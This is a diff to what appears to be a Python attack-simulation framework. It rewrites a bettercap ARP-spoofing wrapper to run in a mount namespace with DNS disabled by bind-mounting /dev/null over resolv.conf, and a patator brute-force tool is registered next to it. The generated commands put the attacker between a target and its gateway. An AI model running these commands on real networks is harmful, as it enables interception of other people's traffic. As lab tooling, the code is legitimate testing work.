@@ -367,14 +367,19 @@ def packit_arp(s: Strike, *, both: bool = False, request: bool = False) -> list[
 
 @tool("spoof.arp", package="bettercap", reach="mac")
 def bettercap(s: Strike, *, both: bool = True) -> list[str]:
-    """bettercap between the target and the gateway, told who they are instead of sweeping for them."""
+    """bettercap between the target and the gateway, told who they are instead of sweeping for them.
+
+    It would ask the machine's own name server who everybody is: it sees a machine that has none.
+    """
     gateway = s.world.host("gateway")
     known = "; ".join(
         f"ip neigh replace {host.address} lladdr {host.mac} dev eth0" for host in (s.target, gateway)
     )
     orders = f"set arp.spoof.targets {s.address}; set arp.spoof.fullduplex {str(both).lower()}; arp.spoof on"
     run = f"bettercap -iface eth0 -gateway-override {gateway.address} -no-colors -no-history -eval '{orders}'"
-    return ["sh", "-c", f"{known}; sleep {int(s.seconds)} | timeout -s INT {int(s.seconds)} {run}"]
+    timed = f"sleep {int(s.seconds)} | timeout -s INT {int(s.seconds)} {run}"
+    nameless = "mount --bind /dev/null /etc/resolv.conf"
+    return ["unshare", "--mount", "sh", "-c", f"{_RELAY}; {nameless}; {known}; {timed}"]
 
 
 @tool("brute_force", package="patator")
